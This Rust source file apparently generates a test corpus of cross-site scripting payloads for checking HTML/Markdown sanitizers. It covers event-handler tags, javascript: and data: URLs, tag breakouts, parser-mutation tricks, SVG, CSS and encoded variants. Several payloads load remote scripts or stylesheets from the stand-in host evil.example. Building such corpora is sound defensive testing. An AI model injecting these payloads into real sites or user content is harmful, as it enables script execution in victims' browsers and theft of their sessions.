//! What somebody would write who wants others' browsers to run something. Made by combining the parts such attempts have, so that
//! each idea is tried in many disguises.

use std::collections::BTreeSet;

/// One attempt, and the idea behind it.
#[derive(Clone, Debug)]
pub struct Payload {
    pub family: &'static str,
    pub text: String,
}

/// What would run. A dialog is what a browser in a test notices.
const CALLS: [&str; 6] = [
    "alert(1)",
    "confirm`1`",
    "top['ale'+'rt'](1)",
    "self[/pro/.source+/mpt/.source](1)",
    "setTimeout('alert(1)')",
    "&#97;lert(1)",
];

/// Elements that do something without being touched.
const STARTERS: [(&str, &str); 16] = [
    ("img src=x", "onerror"),
    ("svg", "onload"),
    ("body", "onload"),
    ("video src=x", "onerror"),
    ("audio src=x", "onerror"),
    ("video><source src=x", "onerror"),
    ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("details open", "ontoggle"),
    ("iframe", "onload"),
    ("object data=x", "onerror"),
    ("xss tabindex=1 autofocus", "onfocus"),
    ("marquee", "onstart"),
    ("style", "onload"),
    ("link rel=stylesheet href=x", "onerror"),
];

/// How the name of an element is told from its attributes, and an attribute's value is written.
const SEPARATORS: [&str; 5] = [" ", "/", "\t", "\n", "/ /"];
const QUOTES: [(&str, &str); 4] = [("", ""), ("\"", "\""), ("'", "'"), ("\" ", "\"")];

/// Addresses that run instead of leading somewhere, in disguises that browsers see through.
const ADDRESSES: [&str; 18] = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java&#10;script:alert(1)",
    "java&Tab;script:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;&#x61;vascript:alert(1)",
    "&#0000106avascript:alert(1)",
    " \u{1}javascript:alert(1)",
    "\u{a0}javascript:alert(1)",
    "javascript://shop.example/%0aalert(1)",
    "jav%61script:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "//evil.example/x.js",
];

/// Where an address may stand: `{}` is its place.
const CARRIERS: [&str; 16] = [
    "<a href=\"{}\">x</a>",
    "<a href={}>x</a>",
    "[x]({})",
    "[x](<{}>)",
    "[x][y]\n\n[y]: {}",
    "<{}>",
    "![x]({})",
    "<img src=\"{}\">",
    "<form action=\"{}\"><button autofocus>x</button></form>",
    "<button form=a formaction=\"{}\">x</button>",
    "<iframe src=\"{}\"></iframe>",
    "<embed src=\"{}\">",
    "<svg><a xlink:href=\"{}\"><text y=9>x</text></a></svg>",
    "<math href=\"{}\">x</math>",
    "<base href=\"{}\">",
    "<meta http-equiv=refresh content=\"0;url={}\">",
];

/// Ends of whatever a text may stand in.
const BREAKOUTS: [&str; 22] = [
    "\">",
    "'>",
    "\"'>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</noscript>",
    "</template>",
    "</option></select>",
    "</text></svg>",
    "</desc></title></svg>",
    "</code></pre>",
    "-->",
    "--!>",
    "]]>",
    "*/</style>",
    "\\\"></script>",
    "\u{2028}</script>",
    "</li></ol></dialog>",
    "</a></h1></main>",
    "\r\n\r\n",
];

/// What parsers read differently the second time.
const MUTATIONS: [&str; 20] = [
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={}&gt;\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror={}>\">",
    "<noscript><p title=\"</noscript><img src=x onerror={}>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "<svg><desc><noscript><img src=x onerror={}></noscript></desc></svg>",
    "<listing>&lt;img src=1 onerror={}&gt;</listing>",
    "<table><td><svg><foreignObject><img src=x onerror={}></foreignObject></svg></td></table>",
    "<select><template><style><!--</style><a rel=\"--></style></template></select><img id=x src onerror={}>\">",
    "<svg><style>&lt;img src=x onerror={}&gt;</style></svg>",
    "<math><annotation-xml encoding=\"text/html\"><img src=x onerror={}></annotation-xml></math>",
    "<svg><title><style><img src=x onerror={}></style></title></svg>",
    "<img src=`x`onerror={}>",
    "<a title=\"`<img src=x onerror={}>`\">x</a>",
    "<!--><img src=x onerror={}>-->",
    "<!-- --!><img src=x onerror={}> -->",
    "<![CDATA[><img src=x onerror={}>]]>",
    "<?xml ><img src=x onerror={}>?>",
    "<xmp><p title=\"</xmp><svg/onload={}>\">",
    "<math><mi//xlink:href=\"data:x,<img src=x onerror={}>\">",
    "<plaintext><img src=x onerror={}>",
];

const SVG: [&str; 14] = [
    "<svg><script>{}</script></svg>",
    "<svg><script xlink:href=//evil.example/x.js></script></svg>",
    "<svg><script>&#97;lert(1)</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><set onbegin={} attributeName=x dur=1s>",
    "<svg><animateTransform onbegin={} attributeName=transform dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:{} /><text y=20>x</text></a></svg>",
    "<svg><a><set attributeName=xlink:href to=javascript:{} /><text y=20>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>{}</script></svg>#x\"/></svg>",
    "<svg><image href=//evil.example/x.svg /></svg>",
    "<svg><foreignObject><iframe srcdoc=\"<script>{}</script>\"></iframe></foreignObject></svg>",
    "<svg><discard onbegin={}>",
    "<svg><feImage href=//evil.example/x.svg /></svg>",
    "<svg><text font-family=\"x\" onclick={}>x</text></svg>",
];

const STYLES: [&str; 12] = [
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/x.png)}</style>",
    "<style>@font-face{font-family:x;src:url(//evil.example/x.woff)}*{font-family:x}</style>",
    "<div style=\"background:url(//evil.example/x.png)\">x</div>",
    "<div style=\"position:fixed;inset:0;z-index:9999\">x</div>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<div style=\"behavior:url(//evil.example/x.htc)\">x</div>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=preload as=script href=//evil.example/x.js>",
    "<link rel=prefetch href=//evil.example/>",
    "<p class=\"button\" id=\"main\" name=\"csrf\">x</p>",
    "<table background=//evil.example/x.png><tr><td>x</table>",
];

const MARKDOWN: [&str; 12] = [
    "[a](https://x.example \"\\\" onmouseover={} \")",
    "[a](https://x.example 'x\" autofocus onfocus={} y=\"')",
    "<https://x.example/\"onmouseover={}>",
    "```html\"><img src=x onerror={}>\n```",
    "| a | b |\n|---|---|\n| <img src=x onerror={}> | ](javascript:{}) |",
    "[![x](x\"onerror={})](javascript:{})",
    "# x <svg/onload={}>",
    "* <details open ontoggle={}>",
    "> <script>{}</script>",
    "<div>\n\n<script>{}</script>\n\n</div>",
    "[x]: <javascript:{}> \"x\"\n\n[x]",
    "\\<script\\>{}\\</script\\> &lt;script&gt;{}&lt;/script&gt;",
];

const ENCODED: [&str; 14] = [
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%253Cscript%253Ealert(1)%253C/script%253E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=alert(1)\\x3e",
    "\u{feff}<script>alert(1)</script>",
    "<scr\u{200b}ipt>alert(1)</scr\u{200b}ipt>",
    "\u{202e}>tpircs<)1(trela>tpircs/<",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)} #{alert(1)} <%= alert(1) %>",
    "={{ $evaluateExpression('alert(1)') }}",
];

/// All of them, in the same order each time.
pub fn corpus() -> Vec<Payload> {
    let mut all = Vec::new();
    let mut add = |family, text: String| all.push(Payload { family, text });
    for (nth, call) in CALLS.iter().enumerate() {
        for text in [
            "<script>{}</script>",
            "<ScRiPt >{}</sCrIpT\n>",
            "<script/x>{}</script/x>",
            "<scr<script>ipt>{}</scr</script>ipt>",
            "<script>{}",
            "<script type=module>{}</script>",
        ] {
            add("script", text.replace("{}", call));
        }
        for text in MUTATIONS.iter().skip(nth % 2).step_by(2) {
            add("mutation", text.replace("{}", call));
        }
        for text in SVG.iter().skip(nth % 3).step_by(3) {
            add("svg", text.replace("{}", call));
        }
        for text in MARKDOWN.iter().skip(nth % 3).step_by(3) {
            add("markdown", text.replace("{}", call));
        }
    }
    for (nth, (element, event)) in STARTERS.iter().enumerate() {
        for (other, separator) in SEPARATORS.iter().enumerate() {
            let call = CALLS[(nth + other) % CALLS.len()];
            let (open, close) = QUOTES[(nth + 2 * other) % QUOTES.len()];
            let element = element.replace(' ', separator);
            add(
                "event",
                format!("<{element}{separator}{event}={open}{call}{close}>"),
            );
        }
    }
    for (nth, carrier) in CARRIERS.iter().enumerate() {
        for address in ADDRESSES.iter().skip(nth % 3).step_by(3) {
            add("address", carrier.replace("{}", address));
        }
    }
    for (nth, end) in BREAKOUTS.iter().enumerate() {
        let call = CALLS[nth % CALLS.len()];
        add("breakout", format!("{end}<img src=x onerror={call}>"));
        add("breakout", format!("{end}<script>{call}</script>"));
        add("breakout", format!("x{end} autofocus onfocus={call} x=\""));
    }
    for text in STYLES {
        add("style", text.to_owned());
    }
    for text in ENCODED {
        add("encoded", text.to_owned());
    }
    let mut seen = BTreeSet::new();
    all.retain(|payload| seen.insert(payload.text.clone()));
    all
}

/// A few of each family.
pub fn sample(of_each: usize) -> Vec<Payload> {
    let mut taken = Vec::new();
    let all = corpus();
    let families: BTreeSet<_> = all.iter().map(|payload| payload.family).collect();
    for family in families {
        let family: Vec<_> = all
            .iter()
            .filter(|payload| payload.family == family)
            .collect();
        let step = family.len().div_ceil(of_each).max(1);
        taken.extend(family.into_iter().step_by(step).cloned());
    }
    taken
}
